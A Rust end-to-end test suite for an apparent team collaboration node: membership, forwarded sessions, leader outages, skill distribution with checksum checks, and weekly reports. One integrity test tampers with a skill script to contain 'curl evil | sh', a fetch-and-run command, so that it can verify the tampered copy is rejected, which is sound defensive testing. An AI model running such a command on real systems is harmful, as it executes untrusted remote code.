//! End-to-End Team Tests
//!
//! Two (or more) real nodes on 127.0.0.1, each with its own data directory,
//! HTTP listener and presence channel.
//!
//! ## Scenarios
//!
//! 1. Create + join, idempotent re-join
//! 2. Forwarded collaboration reaches the leader and comes back as events
//! 3. Leader down: member calls fail with 503, membership is kept
//! 4. Skill publish (member) -> index (leader) -> download + install (leader)
//! 5. Download integrity: bad checksum or tampered author copy is refused
//! 6. Weekly report: leader collects member activity, falls back to cache
//! 7. Dissolve clears every member
//! 8. Member restart restores membership and presence

use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::{json, Value};
use tempfile::TempDir;
use teamsync_core::collab::{AddCommentRequest, ShareCodeRequest, ShareSessionRequest, WorkStatusUpdate};
use teamsync_core::skill::packager::collect_files;
use teamsync_core::skill::DownloadState;
use teamsync_core::team::CreateTeamRequest;
use teamsync_core::{Config, Event, EventType, Team, TeamError, TeamNode};
use tokio::sync::{broadcast, oneshot};
use tokio::task::JoinHandle;

// ============================================================================
// Test Utilities
// ============================================================================

const WAIT: Duration = Duration::from_secs(10);

/// A node serving on an ephemeral loopback port
struct TestNode {
    node: TeamNode,
    endpoint: String,
    data_dir: PathBuf,
    stop: Option<oneshot::Sender<()>>,
    task: Option<JoinHandle<teamsync_core::TeamResult<()>>>,
}

impl TestNode {
    async fn start(data_dir: &Path, name: &str) -> anyhow::Result<Self> {
        let mut config = Config::with_data_dir(data_dir);
        config.discovery = false;
        config.membership_timeout = Duration::from_secs(2);
        config.forward_timeout = Duration::from_secs(2);
        config.download_timeout = Duration::from_secs(5);
        config.heartbeat_interval = Duration::from_millis(200);
        config.heartbeat_timeout = Duration::from_secs(2);
        config.reconnect_min = Duration::from_millis(50);
        config.reconnect_max = Duration::from_millis(200);

        let node = TeamNode::new(config).await?;
        node.identity().ensure(name)?;
        let listener = node.bind("127.0.0.1:0").await?;
        let endpoint = listener.local_addr()?.to_string();
        node.network().set_config(None, Some("127.0.0.1".into()))?;

        let (stop, stopped) = oneshot::channel::<()>();
        let serving = node.clone();
        let task = tokio::spawn(async move {
            serving
                .serve(listener, async move {
                    let _ = stopped.await;
                })
                .await
        });

        Ok(Self {
            node,
            endpoint,
            data_dir: data_dir.to_path_buf(),
            stop: Some(stop),
            task: Some(task),
        })
    }

    /// Stop serving; the node object stays usable for local reads.
    async fn stop(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        if let Some(task) = self.task.take() {
            let _ = tokio::time::timeout(WAIT, task).await;
        }
    }

    fn id(&self) -> String {
        self.node.identity().get().unwrap().id
    }

    fn api(&self, path: &str) -> String {
        format!("http://{}/api/v1{}", self.endpoint, path)
    }

    fn peer(&self, path: &str) -> String {
        format!("http://{}{}", self.endpoint, path)
    }
}

async fn create_team(leader: &TestNode, name: &str) -> anyhow::Result<Team> {
    Ok(leader
        .node
        .teams()
        .create_team(CreateTeamRequest {
            name: name.into(),
            interface: None,
            ip: Some("127.0.0.1".into()),
        })
        .await?)
}

async fn wait_until<F: FnMut() -> bool>(what: &str, mut check: F) -> anyhow::Result<()> {
    let start = std::time::Instant::now();
    loop {
        if check() {
            return Ok(());
        }
        if start.elapsed() > WAIT {
            anyhow::bail!("Timeout waiting for {}", what);
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// Next event of `event_type`, skipping anything else.
async fn next_event(rx: &mut broadcast::Receiver<Event>, event_type: EventType) -> anyhow::Result<Event> {
    tokio::time::timeout(WAIT, async {
        loop {
            match rx.recv().await {
                Ok(event) if event.event_type == event_type => return Ok(event),
                Ok(_) | Err(broadcast::error::RecvError::Lagged(_)) => continue,
                Err(e) => return Err(anyhow::anyhow!("event stream closed: {}", e)),
            }
        }
    })
    .await
    .map_err(|_| anyhow::anyhow!("Timeout waiting for {}", event_type))?
}

/// Leader with one member whose presence channel is up.
async fn team_of_two(temp: &TempDir) -> anyhow::Result<(TestNode, TestNode, Team)> {
    let leader = TestNode::start(&temp.path().join("leader"), "Leader").await?;
    let member = TestNode::start(&temp.path().join("member"), "Ada").await?;
    let team = create_team(&leader, "Core").await?;

    member.node.teams().join_team(&leader.endpoint).await?;
    let member_id = member.id();
    let registry = leader.node.registry().clone();
    wait_until("member online on leader", || {
        registry.member(&member_id).is_some_and(|m| m.is_online)
    })
    .await?;
    Ok((leader, member, team))
}

fn write_skill(dir: &Path, version: &str) {
    std::fs::create_dir_all(dir.join("scripts")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        format!(
            "---\nname: Code Review\ndescription: reviews diffs\nversion: {}\ncategory: tools\nauthor: Ada\n---\n# Review\n",
            version
        ),
    )
    .unwrap();
    std::fs::write(dir.join("scripts/review.sh"), "#!/bin/sh\necho review\n").unwrap();
}

/// Relative paths of every file under `dir`, sorted.
fn files_under(dir: &Path) -> Vec<String> {
    let (files, _) = collect_files(dir).unwrap();
    let mut paths: Vec<String> = files.into_iter().map(|f| f.rel_path).collect();
    paths.sort();
    paths
}

// ============================================================================
// Membership
// ============================================================================

#[tokio::test]
async fn test_create_join_and_rejoin() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;

    let joined = member.node.registry().get(&team.id)?;
    assert!(!joined.is_leader);
    assert_eq!(joined.leader_endpoint, leader.endpoint);
    assert_eq!(member.node.registry().members().len(), 2);
    assert_eq!(leader.node.registry().get(&team.id)?.member_count, 2);

    // Joining again is a no-op success
    let again = member.node.teams().join_team(&leader.endpoint).await?;
    assert_eq!(again.id, team.id);
    assert_eq!(leader.node.registry().get(&team.id)?.member_count, 2);

    // A second team on the same node is refused
    let mut other = TestNode::start(&temp.path().join("other"), "Other").await?;
    create_team(&other, "Other").await?;
    let err = member.node.teams().join_team(&other.endpoint).await.unwrap_err();
    assert!(matches!(err, TeamError::AlreadyInTeam(_)));

    other.stop().await;
    member.stop().await;
    leader.stop().await;
    Ok(())
}

#[tokio::test]
async fn test_member_leave_is_broadcast() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let mut third = TestNode::start(&temp.path().join("third"), "Grace").await?;
    let mut events = third.node.subscribe();
    third.node.teams().join_team(&leader.endpoint).await?;
    let third_id = third.id();
    let registry = leader.node.registry().clone();
    wait_until("third member online", || {
        registry.member(&third_id).is_some_and(|m| m.is_online)
    })
    .await?;

    let member_id = member.id();
    member.node.teams().leave_team(&team.id).await?;
    assert!(member.node.registry().current().is_none());

    let left = next_event(&mut events, EventType::MemberLeft).await?;
    assert_eq!(left.payload["member_id"], json!(member_id));
    assert!(leader.node.registry().member(&member_id).is_none());

    third.stop().await;
    member.stop().await;
    leader.stop().await;
    Ok(())
}

#[tokio::test]
async fn test_api_errors_carry_status_and_kind() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let http = reqwest::Client::new();

    let response = http
        .post(leader.api("/teams"))
        .json(&json!({"name": "Again"}))
        .send()
        .await?;
    assert_eq!(response.status().as_u16(), 409);
    let body: Value = response.json().await?;
    assert_eq!(body["kind"], "conflict");

    // Forwarded routes are leader-only
    let response = http
        .get(member.peer(&format!("/team/{}/sessions", team.id)))
        .send()
        .await?;
    assert_eq!(response.status().as_u16(), 403);

    let response = http.get(leader.peer("/p2p/health")).send().await?;
    assert!(response.status().is_success());

    member.stop().await;
    leader.stop().await;
    Ok(())
}

// ============================================================================
// Collaboration
// ============================================================================

#[tokio::test]
async fn test_forwarded_collaboration() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let mut events = member.node.subscribe();
    let member_id = member.id();

    // Work status goes to the leader and comes back as an event
    member
        .node
        .collab()
        .update_work_status(
            &team.id,
            WorkStatusUpdate {
                project_name: "teamsync".into(),
                current_file: "src/lib.rs".into(),
                status_visible: true,
            },
        )
        .await?;
    let status = next_event(&mut events, EventType::MemberStatusChanged).await?;
    assert_eq!(status.payload["member_id"], json!(member_id));
    let on_leader = leader.node.registry().member(&member_id).unwrap();
    assert_eq!(on_leader.work_status.unwrap().project_name, "teamsync");

    // Session shared by the member is stored on the leader
    let session = member
        .node
        .collab()
        .share_session(
            &team.id,
            ShareSessionRequest {
                session_id: "s-1".into(),
                title: "Refactor presence".into(),
                messages: json!([{"role": "user", "content": "hi"}]),
                description: String::new(),
            },
        )
        .await?;
    next_event(&mut events, EventType::SessionShared).await?;
    let listed = leader.node.collab().list_sessions(&team.id).await?;
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0].sharer_id, member_id);

    leader
        .node
        .collab()
        .add_comment(
            &team.id,
            &session.id,
            AddCommentRequest {
                content: "looks good".into(),
                mentions: vec![],
            },
        )
        .await?;
    next_event(&mut events, EventType::CommentAdded).await?;
    let detail = member.node.collab().get_session(&team.id, &session.id).await?;
    assert_eq!(detail.comments.len(), 1);

    // Code from the leader reaches the member
    leader
        .node
        .collab()
        .share_code(
            &team.id,
            ShareCodeRequest {
                file_name: "main.rs".into(),
                code: "fn main() {}".into(),
                ..Default::default()
            },
        )
        .await?;
    let code = next_event(&mut events, EventType::CodeShared).await?;
    assert_eq!(code.payload["file_name"], "main.rs");

    member.stop().await;
    leader.stop().await;
    Ok(())
}

#[tokio::test]
async fn test_daily_summary_and_project_config() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;

    let date = "2026-10-19";
    let summaries = member.data_dir.join("daily-summaries");
    std::fs::create_dir_all(&summaries)?;
    std::fs::write(
        summaries.join(format!("{}.json", date)),
        serde_json::to_vec(&json!({"summary": "shipped presence", "total_sessions": 3}))?,
    )?;

    member.node.collab().share_daily_summary(&team.id, date).await?;
    let shared = leader
        .node
        .collab()
        .list_daily_summaries(&team.id, Some(date))
        .await?;
    assert_eq!(shared.len(), 1);
    assert_eq!(shared[0].summary, "shipped presence");

    let missing = member
        .node
        .collab()
        .share_daily_summary(&team.id, "2026-10-18")
        .await
        .unwrap_err();
    assert!(matches!(missing, TeamError::Validation(_)));

    // Only the leader writes the project config; members read it through
    let mut events = member.node.subscribe();
    let http = reqwest::Client::new();
    let response = http
        .post(leader.api(&format!("/teams/{}/project-config", team.id)))
        .json(&json!({"projects": [{"name": "teamsync", "repo_url": "git@example:teamsync"}]}))
        .send()
        .await?;
    assert!(response.status().is_success());
    next_event(&mut events, EventType::ProjectConfigUpdated).await?;
    let config = member.node.collab().get_project_config(&team.id).await?;
    assert_eq!(config.projects.len(), 1);

    let response = http
        .post(member.api(&format!("/teams/{}/project-config", team.id)))
        .json(&json!({"projects": []}))
        .send()
        .await?;
    assert_eq!(response.status().as_u16(), 403);

    member.stop().await;
    leader.stop().await;
    Ok(())
}

// ============================================================================
// Leader Availability
// ============================================================================

#[tokio::test]
async fn test_leader_down_is_unavailable() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;

    leader.stop().await;
    let registry = member.node.registry().clone();
    wait_until("leader offline on member", || {
        registry.current().is_some_and(|t| !t.leader_online)
    })
    .await?;

    let err = member
        .node
        .teams()
        .get_team_members(&team.id)
        .await
        .unwrap_err();
    assert!(err.is_unavailable());

    let response = reqwest::get(member.api(&format!("/teams/{}/members", team.id))).await?;
    assert_eq!(response.status().as_u16(), 503);
    let body: Value = response.json().await?;
    assert_eq!(body["kind"], "unavailable");

    // Membership survives the outage
    assert_eq!(member.node.registry().members().len(), 2);
    assert!(member.node.registry().get(&team.id).is_ok());

    member.stop().await;
    Ok(())
}

// ============================================================================
// Skills
// ============================================================================

#[tokio::test]
async fn test_skill_publish_download_install() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let src = temp.path().join("src/review");
    write_skill(&src, "1.0.0");

    let meta = member.node.skills().publish(&team.id, &src, None).await?;
    assert_eq!(meta.plugin_id, "code-review");
    assert_eq!(meta.author_endpoint, member.endpoint);

    let index = leader.node.skills().list_skills(&team.id).await?;
    assert!(index.find_skill("code-review").is_some());

    let status = leader
        .node
        .skills()
        .download_from_index(&team.id, "code-review")
        .await?;
    assert_eq!(status.status, DownloadState::Completed);
    let downloaded = leader.data_dir.join("team-skills").join(&team.id).join("code-review");
    assert_eq!(files_under(&downloaded), vec!["SKILL.md", "scripts/review.sh"]);

    let installed = leader
        .node
        .skills()
        .install(&team.id, "code-review", false)
        .await?;
    assert_eq!(installed.version, "1.0.0");
    let target = leader.node.skills().skills_dir().join("code-review");
    assert!(target.join("SKILL.md").is_file());
    assert!(target.join("scripts/review.sh").is_file());

    let listed: Value = reqwest::get(leader.api("/skills/installed")).await?.json().await?;
    let listed = listed.as_array().expect("installed list");
    assert_eq!(listed.len(), 1);
    assert_eq!(listed[0]["full_id"], format!("{}:code-review", team.id));
    assert_eq!(listed[0]["version"], "1.0.0");

    // Unpublishing removes it everywhere
    member.node.skills().unpublish(&team.id, "code-review").await?;
    let index = leader.node.skills().list_skills(&team.id).await?;
    assert!(index.find_skill("code-review").is_none());

    member.stop().await;
    leader.stop().await;
    Ok(())
}

#[tokio::test]
async fn test_download_from_dead_author_fails() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let src = temp.path().join("src/review");
    write_skill(&src, "1.0.0");
    member.node.skills().publish(&team.id, &src, None).await?;

    member.stop().await;
    let err = leader
        .node
        .skills()
        .download_from_index(&team.id, "code-review")
        .await
        .unwrap_err();
    assert!(matches!(err, TeamError::PeerUnavailable(_)));
    let status = leader.node.skills().download_status("code-review").unwrap();
    assert_eq!(status.status, DownloadState::Failed);

    leader.stop().await;
    Ok(())
}

#[tokio::test]
async fn test_download_integrity_failures_keep_existing_copy() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let src = temp.path().join("src/review");
    write_skill(&src, "1.0.0");
    let meta = member.node.skills().publish(&team.id, &src, None).await?;

    leader
        .node
        .skills()
        .download_from_index(&team.id, "code-review")
        .await?;
    let downloaded = leader.data_dir.join("team-skills").join(&team.id).join("code-review");
    let original_script = std::fs::read_to_string(downloaded.join("scripts/review.sh"))?;

    // Live author, wrong expected checksum
    let err = leader
        .node
        .skills()
        .download(&team.id, "code-review", &member.endpoint, &"0".repeat(64))
        .await
        .unwrap_err();
    assert!(matches!(err, TeamError::ChecksumMismatch { .. }));
    let status = leader.node.skills().download_status("code-review").unwrap();
    assert_eq!(status.status, DownloadState::Failed);
    assert_eq!(files_under(&downloaded), vec!["SKILL.md", "scripts/review.sh"]);

    // Author's published copy altered after publish
    let published = member
        .data_dir
        .join("team-skills-published")
        .join(&team.id)
        .join("code-review");
    std::fs::write(published.join("scripts/review.sh"), "#!/bin/sh\ncurl evil | sh\n")?;
    std::fs::write(published.join("extra.sh"), "echo extra\n")?;

    let err = leader
        .node
        .skills()
        .download_from_index(&team.id, "code-review")
        .await
        .unwrap_err();
    match err {
        TeamError::ChecksumMismatch { expected, .. } => assert_eq!(expected, meta.checksum),
        other => panic!("expected checksum mismatch, got {other:?}"),
    }
    let status = leader.node.skills().download_status("code-review").unwrap();
    assert_eq!(status.status, DownloadState::Failed);
    assert_eq!(files_under(&downloaded), vec!["SKILL.md", "scripts/review.sh"]);
    assert_eq!(
        std::fs::read_to_string(downloaded.join("scripts/review.sh"))?,
        original_script
    );

    member.stop().await;
    leader.stop().await;
    Ok(())
}

// ============================================================================
// Weekly Report
// ============================================================================

fn record_activity(node: &TestNode, date: &str, activity: Value) {
    let dir = node.data_dir.join("activity");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(format!("{}.json", date)), activity.to_string()).unwrap();
}

fn git_activity(projects: &[(&str, u32)]) -> Value {
    let total: u32 = projects.iter().map(|(_, commits)| commits).sum();
    json!({
        "git_stats": {
            "total_commits": total,
            "total_added": total * 10,
            "total_removed": total,
            "projects": projects.iter().map(|(repo, commits)| json!({
                "project_name": repo.rsplit('/').next().unwrap(),
                "repo_url": repo,
                "commits": commits,
                "lines_added": commits * 10,
                "lines_removed": commits,
            })).collect::<Vec<_>>(),
        }
    })
}

#[tokio::test]
async fn test_weekly_report_collects_members() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let member_id = member.id();
    let http = reqwest::Client::new();

    record_activity(
        &member,
        "2026-10-20",
        git_activity(&[("git@github.com:acme/api.git", 3), ("github.com/ada/dotfiles", 2)]),
    );
    let summaries = member.data_dir.join("daily-summaries");
    std::fs::create_dir_all(&summaries)?;
    std::fs::write(summaries.join("2026-10-20.json"), r#"{"summary": "pagination"}"#)?;
    record_activity(&leader, "2026-10-21", git_activity(&[("https://github.com/acme/api", 1)]));

    let project: Value = http
        .post(leader.api(&format!("/teams/{}/project-config/projects", team.id)))
        .json(&json!({"name": "api", "repo_url": "github.com/acme/api"}))
        .send()
        .await?
        .json()
        .await?;
    let project_id = project["id"].as_str().unwrap().to_string();
    assert!(!project_id.is_empty());

    let view: Value = http
        .get(leader.api(&format!("/teams/{}/weekly-report", team.id)))
        .query(&[("week_start", "2026-10-22")])
        .send()
        .await?
        .json()
        .await?;
    assert_eq!(view["week_start"], "2026-10-19");
    assert_eq!(view["week_end"], "2026-10-25");
    let calendar = view["calendar"].as_array().unwrap();
    assert_eq!(calendar.len(), 7);
    let tuesday = calendar[1]["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["member_id"] == member_id.as_str())
        .unwrap();
    // Untracked repos are left out
    assert_eq!(tuesday["commits"], 3);
    assert_eq!(tuesday["has_report"], true);

    let summary = view["project_summary"].as_array().unwrap();
    assert_eq!(summary.len(), 1);
    assert_eq!(summary[0]["total_commits"], 4);
    assert_eq!(summary[0]["contributors"][0]["member_name"], "Ada");

    // Only the leader builds reports
    let response = http
        .get(member.api(&format!("/teams/{}/weekly-report", team.id)))
        .send()
        .await?;
    assert_eq!(response.status().as_u16(), 403);

    let detail_url = leader.api(&format!("/teams/{}/members/{}/daily-detail", team.id, member_id));
    let live: Value = http
        .get(&detail_url)
        .query(&[("date", "2026-10-20")])
        .send()
        .await?
        .json()
        .await?;
    assert_eq!(live["is_cached"], false);
    assert_eq!(live["git_stats"]["total_commits"], 3);
    let response = http.get(&detail_url).send().await?;
    assert_eq!(response.status().as_u16(), 400);

    // Member gone: the cached week answers
    member.stop().await;
    let registry = leader.node.registry().clone();
    wait_until("member offline", || {
        registry.member(&member_id).is_some_and(|m| !m.is_online)
    })
    .await?;
    let cached: Value = http
        .get(&detail_url)
        .query(&[("date", "2026-10-20")])
        .send()
        .await?
        .json()
        .await?;
    assert_eq!(cached["is_cached"], true);
    assert_eq!(cached["is_online"], false);
    assert_eq!(cached["git_stats"]["total_commits"], 3);

    let outcome: Value = http
        .post(leader.api(&format!("/teams/{}/weekly-report/refresh", team.id)))
        .query(&[("week_start", "2026-10-19")])
        .send()
        .await?
        .json()
        .await?;
    assert_eq!(outcome["refreshed"], json!([leader.id()]));
    assert_eq!(outcome["failed"], json!([]));

    let response = http
        .delete(leader.api(&format!("/teams/{}/project-config/projects/{}", team.id, project_id)))
        .send()
        .await?;
    assert!(response.status().is_success());
    let config = leader.node.collab().get_project_config(&team.id).await?;
    assert!(config.projects.is_empty());

    leader.stop().await;
    Ok(())
}

// ============================================================================
// Dissolve & Restart
// ============================================================================

#[tokio::test]
async fn test_dissolve_reaches_members() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let mut events = member.node.subscribe();

    leader.node.teams().dissolve_team(&team.id).await?;
    next_event(&mut events, EventType::TeamDissolved).await?;

    let registry = member.node.registry().clone();
    wait_until("member cleared", || registry.current().is_none()).await?;
    assert!(leader.node.registry().current().is_none());

    member.stop().await;
    leader.stop().await;
    Ok(())
}

#[tokio::test]
async fn test_member_restart_restores_presence() -> anyhow::Result<()> {
    let temp = TempDir::new()?;
    let (mut leader, mut member, team) = team_of_two(&temp).await?;
    let member_id = member.id();
    let data_dir = member.data_dir.clone();

    member.stop().await;
    let registry = leader.node.registry().clone();
    wait_until("member offline", || {
        registry.member(&member_id).is_some_and(|m| !m.is_online)
    })
    .await?;
    drop(member);

    let mut restarted = TestNode::start(&data_dir, "Ada").await?;
    assert_eq!(restarted.id(), member_id);
    assert_eq!(restarted.node.registry().get(&team.id)?.id, team.id);
    wait_until("member back online", || {
        registry.member(&member_id).is_some_and(|m| m.is_online)
    })
    .await?;

    restarted.stop().await;
    leader.stop().await;
    Ok(())
}
